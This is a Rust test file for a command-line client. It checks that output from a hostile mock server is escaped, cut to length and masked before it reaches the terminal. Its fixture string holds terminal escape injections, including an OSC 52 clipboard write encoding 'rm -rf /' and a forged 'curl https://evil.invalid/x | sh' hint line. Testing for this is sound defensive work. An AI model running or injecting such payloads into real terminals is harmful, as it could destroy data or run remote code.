//! Server text cannot drive the terminal or forge lines; the API key is masked in errors.
//!
//! Every server here is a [`Mock::bounded`] one: it answers the few requests a test needs and
//! then stops listening.

use serde_json::{Value, json};

use super::support::{Mock, Reply, qlik, raw_unsafe};

/// The configured key, which the hostile server echoes back.
const KEY: &str = "sentinel-api-key-0123456789abcdef";

/// Screen clears, OSC 8 links, an OSC 52 clipboard write, a C1 CSI, bidi overrides and
/// isolates, a bare CR that would overwrite the line, and a newline forging a hint.
const HOSTILE: &str = "Bad\u{1b}[2J\u{1b}]8;;http://evil.invalid\u{7}link\u{1b}]8;;\u{7} \
    \u{1b}]52;c;cm0gLXJmIC8=\u{7} \u{9b}31mred \u{202e}txt.exe\u{2066}x\u{2069}\u{200f} \
    fake\rerror: overwritten\nhint: run curl https://evil.invalid/x | sh";

struct Run {
    code: i32,
    out: Vec<u8>,
    err: String,
}

fn run(url: &str, vars: &[(&str, &str)], args: &[&str]) -> Run {
    let dir = tempfile::tempdir().unwrap();
    let mut env = vec![("QLIK_SERVER", url), ("QLIK_API_KEY", KEY)];
    env.extend_from_slice(vars);
    let out = qlik(dir.path(), &env)
        .args(args)
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(!err.contains("panicked"), "{args:?}: {err}");
    Run {
        code: out.status.code().unwrap_or(-1),
        out: out.stdout,
        err,
    }
}

/// stderr holds no raw character that could drive a terminal, never the key, and no line
/// the server forged.
fn assert_safe(err: &str, what: &str) {
    assert_eq!(raw_unsafe(err), Vec::<char>::new(), "{what}: {err}");
    assert!(!err.contains(&KEY[..12]), "{what}: the key is shown: {err}");
    for line in err.lines() {
        assert!(
            !line.starts_with("hint: run curl") && !line.starts_with("error: overwritten"),
            "{what}: a forged line: {err}"
        );
    }
}

/// The error is exactly one `error:` line, then only `hint:` lines.
fn assert_one_error_line(err: &str, what: &str) {
    let mut lines = err.lines();
    assert!(
        lines.next().is_some_and(|l| l.starts_with("error: ")),
        "{what}: {err}"
    );
    for l in lines {
        assert!(
            l.starts_with("hint: "),
            "{what}: a line that is not a hint: {err}"
        );
    }
}

#[test]
fn error_text_from_the_server_is_one_escaped_line_cut_and_masked() {
    let mega = "x".repeat(1 << 20);
    let cases: Vec<(&str, u16, Vec<u8>, i32)> = vec![
        (
            "service shape, 1 MB detail",
            400,
            json!({"errors": [{
                "code": format!("E\u{1b}[2J{KEY}"),
                "title": format!("{HOSTILE} {KEY}"),
                "detail": format!("{HOSTILE} key={KEY} {mega}"),
            }]})
            .to_string()
            .into_bytes(),
            1,
        ),
        (
            "service shape, 404",
            404,
            json!({"errors": [{"title": HOSTILE, "detail": format!("{KEY}\n{HOSTILE}")}]})
                .to_string()
                .into_bytes(),
            3,
        ),
        (
            "not JSON, 1 MB",
            500,
            format!("{HOSTILE} {KEY} {mega}").into_bytes(),
            1,
        ),
        (
            // Masked before the cut: the key would straddle it.
            "not JSON, a C1 byte that is not UTF-8 and the key at the cut",
            500,
            [
                b"\x9b2J \xc2\x9b31m ".as_slice(),
                "y".repeat(370).as_bytes(),
                KEY.as_bytes(),
            ]
            .concat(),
            1,
        ),
    ];
    for (what, status, body, code) in cases {
        let srv = Mock::bounded(1, move |_, _| {
            Reply::body(status, body.clone()).header("X-B3-Traceid", &format!("t\t{KEY}"))
        });
        let r = run(&srv.url, &[], &["item", "get", "x", "--retry", "0"]);
        assert_eq!(r.code, code, "{what}: {}", r.err);
        assert!(r.out.is_empty(), "{what}");
        assert_safe(&r.err, what);
        assert_one_error_line(&r.err, what);
        assert_eq!(r.err.lines().count(), 1, "{what}: {}", r.err);
        assert!(r.err.len() < 2000, "{what}: {} bytes", r.err.len());
        assert!(r.err.contains("(HTTP "), "{what}: {}", r.err);
        if what.contains("1 MB") {
            assert!(r.err.contains("more bytes)"), "{what}: not cut: {}", r.err);
            // What was there is shown, escaped.
            assert!(r.err.contains("\\u{1b}[2J"), "{what}: {}", r.err);
            assert!(r.err.contains("\\u{9b}31m"), "{what}: {}", r.err);
            assert!(r.err.contains("\\u{202e}"), "{what}: {}", r.err);
            if what.starts_with("service") {
                assert!(r.err.contains("\\nhint: run curl"), "{what}: {}", r.err);
            }
            assert!(r.err.contains("****"), "{what}: {}", r.err);
        }
        assert_eq!(srv.requests().len(), 1, "{what}");
    }
}

#[test]
fn per_id_errors_and_the_rm_summary_are_escaped() {
    let body = json!({"errors": [{"title": HOSTILE, "detail": format!("{KEY} {HOSTILE}")}]});
    let b = body.clone();
    let srv = Mock::bounded(2, move |_, _| Reply::body(500, b.to_string()));
    let r = run(&srv.url, &[], &["item", "get", "a", "b", "--retry", "0"]);
    assert_eq!(r.code, 1, "{}", r.err);
    assert_safe(&r.err, "get a b");
    let errors: Vec<&str> = r.err.lines().filter(|l| l.starts_with("error: ")).collect();
    assert_eq!(errors.len(), 2, "{}", r.err);
    assert!(
        errors[0].starts_with("error: a: Bad\\u{1b}[2J"),
        "{}",
        r.err
    );
    assert_eq!(r.err.lines().count(), 2, "{}", r.err);

    let b = body.clone();
    let srv = Mock::bounded(1, move |_, _| Reply::body(500, b.to_string()));
    let r = run(&srv.url, &[], &["item", "rm", "a", "--yes", "--retry", "0"]);
    assert_eq!(r.code, 1, "{}", r.err);
    assert_safe(&r.err, "rm a");
    assert!(r.err.starts_with("error: a: Bad\\u{1b}[2J"), "{}", r.err);
    assert_eq!(
        r.err.lines().count(),
        2,
        "a failure and the summary: {}",
        r.err
    );
    assert_eq!(srv.lines(), ["DELETE /api/v1/items/a"]);

    // An id read from stdin (as `ls -q | rm -` feeds it) is the service's text too: the
    // summary shows it escaped.
    let srv = Mock::bounded(1, move |_, _| {
        Reply::body(
            404,
            json!({"errors": [{"title": "Not found."}]}).to_string(),
        )
    });
    let dir = tempfile::tempdir().unwrap();
    let out = qlik(
        dir.path(),
        &[("QLIK_SERVER", srv.url.as_str()), ("QLIK_API_KEY", KEY)],
    )
    .args(["item", "rm", "-", "--yes", "--retry", "0"])
    .write_stdin("x\u{1b}[2Jy\u{202e}z\n")
    .timeout(std::time::Duration::from_secs(60))
    .output()
    .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert_safe(&err, "rm - with a hostile id");
    assert!(
        err.starts_with("error: x\\u{1b}[2Jy\\u{202e}z: not found (HTTP 404"),
        "{err}"
    );
}

#[test]
fn the_cursor_note_and_the_verbose_log_are_escaped() {
    // The next page's cursor is the server's text, and so is the trace id `-v` logs.
    let cursor: String = url::form_urlencoded::byte_serialize(HOSTILE.as_bytes()).collect();
    // A full page (100 items) with a next link: one page is shown, with a note.
    let items: Vec<Value> = (0..100).map(|i| json!({"id": format!("i{i}")})).collect();
    let page = json!({
        "data": items,
        "links": {"next": {"href": format!("/api/v1/items?next={cursor}&limit=100")}},
    });
    let trace = format!("{}\tend", "t".repeat(5000));
    let srv = Mock::bounded(1, move |_, _| {
        Reply::body(200, page.to_string()).header("X-B3-Traceid", &trace)
    });
    let r = run(&srv.url, &[], &["item", "ls", "-o", "json", "-v"]);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_safe(&r.err, "ls -v");
    assert!(
        r.err
            .contains("(the next page's cursor is not shown: it holds control or other non-printable characters)"),
        "a cursor that cannot be pasted is left out, with a word: {}",
        r.err
    );
    let log = r
        .err
        .lines()
        .find(|l| l.starts_with("GET "))
        .unwrap_or_else(|| panic!("no request log: {}", r.err));
    assert!(log.len() < 400, "the trace id is cut: {log}");
    assert!(log.contains("more bytes)"), "{log}");
    assert_eq!(r.err.lines().count(), 3, "using, GET, note: {}", r.err);
}

/// An item whose id and name hold C1, bidi and line-separator characters (a raw C0
/// control cannot be in JSON text; escaped ones are decoded into the value).
fn hostile_item_text() -> String {
    format!(
        "{{\"id\":\"id\u{9b}\u{202e}1\",\"name\":{},\"resourceType\":\"app\",\"note\":\"\u{2028}\u{85}\u{e0041}\"}}",
        serde_json::to_string(HOSTILE).unwrap()
    )
}

fn hostile_listing(requests: usize) -> Mock {
    let item = hostile_item_text();
    Mock::bounded(requests, move |_, r| {
        let body = if r.path.starts_with("/api/v1/items?") {
            format!("{{\"data\":[{item}],\"links\":{{}}}}")
        } else {
            item.clone()
        };
        Reply::body(200, body)
    })
}

#[test]
fn piped_ids_json_and_jsonl_stay_byte_exact() {
    let item = hostile_item_text();
    let srv = hostile_listing(4);
    let r = run(&srv.url, &[], &["item", "ls", "-q"]);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_eq!(r.out, "id\u{9b}\u{202e}1\n".as_bytes());
    let r = run(&srv.url, &[], &["item", "ls", "-o", "jsonl"]);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_eq!(r.out, format!("{item}\n").as_bytes());
    let r = run(&srv.url, &[], &["item", "get", "x", "-o", "jsonl"]);
    assert_eq!(r.code, 0, "{}", r.err);
    let v: Value = serde_json::from_slice(&r.out).unwrap();
    assert_eq!(v, serde_json::from_str::<Value>(&item).unwrap());
    assert!(String::from_utf8_lossy(&r.out).contains('\u{9b}'));
    let r = run(&srv.url, &[], &["item", "ls", "-o", "json"]);
    assert_eq!(r.code, 0, "{}", r.err);
    let text = String::from_utf8(r.out).unwrap();
    assert!(text.contains("\"id\u{9b}\u{202e}1\""), "{text}");
}

#[test]
fn on_a_terminal_ids_json_and_tables_are_escaped() {
    let item: Value = serde_json::from_str(&hostile_item_text()).unwrap();
    let tty = [("QLIK_FORCE_TTY", "1"), ("COLUMNS", "300")];
    let srv = hostile_listing(6);
    let r = run(&srv.url, &tty, &["item", "ls", "-q"]);
    assert_eq!(r.code, 0, "{}", r.err);
    assert_eq!(String::from_utf8(r.out).unwrap(), "id\\u{9b}\\u{202e}1\n");
    for args in [
        &["item", "ls", "-o", "json"][..],
        &["item", "ls", "-o", "jsonl"][..],
        &["item", "get", "x", "-o", "json"][..],
    ] {
        let r = run(&srv.url, &tty, args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err);
        let text = String::from_utf8(r.out).unwrap();
        assert_eq!(raw_unsafe(&text), Vec::<char>::new(), "{args:?}: {text}");
        assert!(text.contains("\"id\\u009b\\u202e1\""), "{args:?}: {text}");
        // The same JSON.
        let back: Value = if args.contains(&"get") {
            serde_json::from_str(&text).unwrap()
        } else if args.contains(&"jsonl") {
            json!([serde_json::from_str::<Value>(text.trim()).unwrap()])
        } else {
            serde_json::from_str(&text).unwrap()
        };
        let expected = if args.contains(&"get") {
            item.clone()
        } else {
            json!([item.clone()])
        };
        assert_eq!(back, expected, "{args:?}");
    }
    // The table escapes on a terminal and piped alike (it is for people).
    for vars in [&tty[..], &[][..]] {
        let r = run(&srv.url, vars, &["item", "ls", "-o", "table"]);
        assert_eq!(r.code, 0, "{}", r.err);
        let text = String::from_utf8(r.out).unwrap();
        assert_eq!(raw_unsafe(&text), Vec::<char>::new(), "{vars:?}: {text}");
        assert_eq!(text.lines().count(), 2, "{vars:?}: {text}");
        assert!(text.contains("id\\u{9b}\\u{202e}1"), "{vars:?}: {text}");
    }
}

#[test]
fn raw_bodies_are_escaped_on_a_terminal_and_exact_when_piped() {
    let tty = [("QLIK_FORCE_TTY", "1")];
    let srv = hostile_listing(8);
    let item = hostile_item_text();
    for (args, body) in [
        (
            &["item", "ls", "--raw"][..],
            format!("{{\"data\":[{item}],\"links\":{{}}}}"),
        ),
        (&["item", "get", "x", "--raw"][..], item.clone()),
    ] {
        let r = run(&srv.url, &tty, args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err);
        let text = String::from_utf8(r.out).unwrap();
        assert_eq!(raw_unsafe(&text), Vec::<char>::new(), "{args:?}: {text}");
        assert!(text.contains("id\\u{9b}\\u{202e}1"), "{args:?}: {text}");
        let r = run(&srv.url, &[], args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err);
        assert_eq!(r.out, format!("{body}\n").into_bytes(), "{args:?}");
    }
    // A body that is not JSON, with a raw escape sequence: shown, not sent to the terminal.
    let srv = Mock::bounded(2, |_, _| Reply::body(200, "{\"id\":\"x\u{1b}[2J\"}"));
    let r = run(&srv.url, &tty, &["item", "get", "x", "--raw"]);
    assert_eq!(r.code, 0, "{}", r.err);
    let text = String::from_utf8(r.out).unwrap();
    assert!(!text.contains('\u{1b}'), "{text:?}");
    assert!(text.contains("\\u{1b}[2J"), "{text:?}");
    let r = run(&srv.url, &[], &["item", "get", "x", "--raw"]);
    assert_eq!(r.out, "{\"id\":\"x\u{1b}[2J\"}\n".as_bytes());
}

#[test]
fn profile_servers_from_a_hand_edited_config_are_escaped() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("config.toml"),
        "default_profile = \"p\"\n[profiles.p]\nserver = \"https://a\\u202Eb\\u009B.example.com\"\n",
    )
    .unwrap();
    let tty: &[(&str, &str)] = &[("QLIK_FORCE_TTY", "1")];
    let cases = [
        (&[][..], &["profile", "ls", "-o", "table"][..]),
        (tty, &["profile", "ls"][..]),
        (tty, &["profile", "show", "-o", "json"][..]),
        (tty, &["profile", "show", "-o", "yaml"][..]),
    ];
    for (vars, args) in cases {
        let out = qlik(dir.path(), vars).args(args).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(out.status.success(), "{args:?}: {err}");
        assert_eq!(raw_unsafe(&text), Vec::<char>::new(), "{args:?}: {text}");
        assert_eq!(raw_unsafe(&err), Vec::<char>::new(), "{args:?}: {err}");
        assert!(text.contains("https://a\\u"), "{args:?}: {text}");
    }
    // Piped json is the data as it is.
    let out = qlik(dir.path(), &[])
        .args(["profile", "show", "-o", "json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["server"], "https://a\u{202e}b\u{9b}.example.com");
}
